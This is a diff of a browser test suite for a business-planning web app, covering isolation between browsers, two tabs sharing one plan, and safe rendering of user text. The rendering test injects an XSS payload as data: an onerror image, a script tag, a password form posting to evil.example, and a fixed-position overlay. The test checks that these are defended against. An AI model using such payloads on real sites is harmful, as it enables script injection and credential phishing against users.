@@ -287,8 +287,14 @@ def test_browser_b_cannot_reach_browser_a_plan_even_through_the_api(
         b.get_by_role("tab", name=tab, exact=True).click()
         b.wait_for_timeout(300)
         assert "Alpha Secret Co" not in b.inner_text("body")
+    for _ in range(2):  # fresh visits reuse this browser's untouched plan: no empty plans pile up
+        b.reload()
+        b.wait_for_selector("#progress", timeout=60_000)
+        b.wait_for_timeout(1000)
+    b.get_by_role("tab", name="Plans", exact=True).click()
     b.click("#session-pick input")
     assert "Alpha Secret Co" not in b.inner_text("body")
+    assert b.locator("[role='option']").count() == 1
     # direct calls with A's plan id, carrying B's own cookie
     state = {"session_id": victim.id, "lang": "en"}
     loaded = _api(b, "on_load", [state])
@@ -314,11 +320,46 @@ def test_browser_b_cannot_reach_browser_a_plan_even_through_the_api(
     ).status in (403, 404)
 
 
+def test_two_tabs_on_one_plan_lose_no_answer(browser: object, app_url: str, app_data: Path) -> None:
+    """Two tabs of one browser share a plan; each answers the question on its own screen."""
+    context = browser.new_context(viewport={"width": 1600, "height": 1000})  # type: ignore[attr-defined]
+    first = open_page(browser, app_url, context)
+    say(first, "company Two Tabs Co")
+    second = open_page(browser, app_url, context)  # the same plan (same browser storage)
+    assert "Two Tabs Co" in second.inner_text("#chat")  # type: ignore[attr-defined]
+    say(first, "goto sales_training")
+    say(second, "goto mkt_content_strategy")
+    for n in range(3):  # alternate: each tab answers the question it shows
+        say(first, f"Training answer {n}: monthly role-play sessions.")
+        say(first, "goto sales_training")
+        say(second, f"Content answer {n}: two webinars a month.")
+        say(second, "goto mkt_content_strategy")
+    from assistant.store.sqlite import SqliteStore
+
+    store = SqliteStore(app_data / "sessions.sqlite3")
+    sid = next(s.id for s in store.list() if s.company == "Two Tabs Co")
+    plan = store.load(sid).plan
+    content = plan.section("mkt_content_strategy").answers
+    training = plan.section("sales_training").answers
+    # every confirmed answer is kept, in order, under the section its tab was showing
+    assert content == [f"Content answer {n}: two webinars a month." for n in range(3)]
+    assert training == [f"Training answer {n}: monthly role-play sessions." for n in range(3)]
+    first.reload()  # type: ignore[attr-defined]
+    first.wait_for_function(  # type: ignore[attr-defined]
+        "document.querySelector('#plan-view') && document.querySelector('#plan-view').innerText.includes('Content answer 2')",
+        timeout=60_000,
+    )
+    assert "Training answer 2" in first.inner_text("#plan-view")  # type: ignore[attr-defined]
+
+
 def test_user_text_is_rendered_safely(browser: object, app_url: str) -> None:
     page = open_page(browser, app_url)
     dialogs: list[str] = []
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-    say(page, "<img src=x onerror=alert(1)><script>alert(2)</script> Retail chains")
+    say(
+        page,
+        '<img src=x onerror=alert(1)><script>alert(2)</script><form action="https://evil.example"><input name="pw"></form><b style="position:fixed;top:0">Retail chains</b>',
+    )
     page.wait_for_timeout(1000)
     assert dialogs == []
     assert page.locator("#plan-view script").count() == 0
@@ -326,6 +367,9 @@ def test_user_text_is_rendered_safely(browser: object, app_url: str) -> None:
         page.locator("#plan-view img[onerror]").count() == 0
         and page.locator("#chat img[onerror]").count() == 0
     )
+    for where in ("#chat", "#plan-view"):  # no forms, inputs or inline styles from user text
+        assert page.locator(f"{where} form, {where} input, {where} [style*='fixed']").count() == 0
+    assert "Retail chains" in page.inner_text("#chat")
 
 
 def test_sales_history_upload_fills_the_forecast_and_bad_files_are_rejected(
